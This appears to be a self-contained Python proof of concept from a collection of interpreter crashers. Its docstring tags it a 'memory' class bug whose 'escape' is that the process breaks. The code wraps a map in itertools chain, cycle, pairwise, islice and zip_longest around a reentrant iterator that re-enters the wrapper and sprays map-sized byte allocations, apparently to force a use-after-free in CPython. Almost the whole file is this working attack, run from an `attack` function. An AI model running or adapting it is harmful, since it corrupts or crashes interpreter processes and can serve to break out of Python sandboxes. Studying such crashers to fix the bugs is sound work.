"""Class: memory. Source: own find. Escape: the process breaks. What a chain goes over asks the chain for more
and ends: the chain lets the `map` go that is still at work."""

from itertools import chain, cycle, islice, pairwise, zip_longest


class Values:
    def __init__(self, around):
        self.around = around
        self.asked = 0

    def __iter__(self):
        return self

    def __next__(self):
        self.asked += 1
        if self.asked > 1:
            raise StopIteration
        next(self.around[0], None)
        kept.extend(bytes([65 + i]) * 15 for i in range(50))  # as large as a `map`
        return 5


kept = []


def attack(model, tokenizer, address):
    makers = (chain, cycle, pairwise, lambda it: islice(it, 9), lambda it: zip_longest(it, [1, 2]))
    for make in makers:
        for _ in range(200):
            around = []
            around.append(make(map(lambda each: each, Values(around))))
            try:
                next(around[0], None)
            except (TypeError, ValueError):
                pass
